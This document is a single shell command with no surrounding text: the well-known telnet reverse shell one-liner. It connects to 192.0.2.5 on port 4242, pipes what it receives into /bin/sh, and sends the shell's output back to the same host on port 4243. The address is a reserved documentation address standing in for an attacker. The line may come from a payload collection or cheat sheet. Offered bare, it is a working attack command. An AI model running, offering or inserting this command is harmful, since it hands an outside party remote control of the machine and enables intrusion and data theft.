telnet 192.0.2.5 4242 | /bin/sh | telnet 192.0.2.5 4243
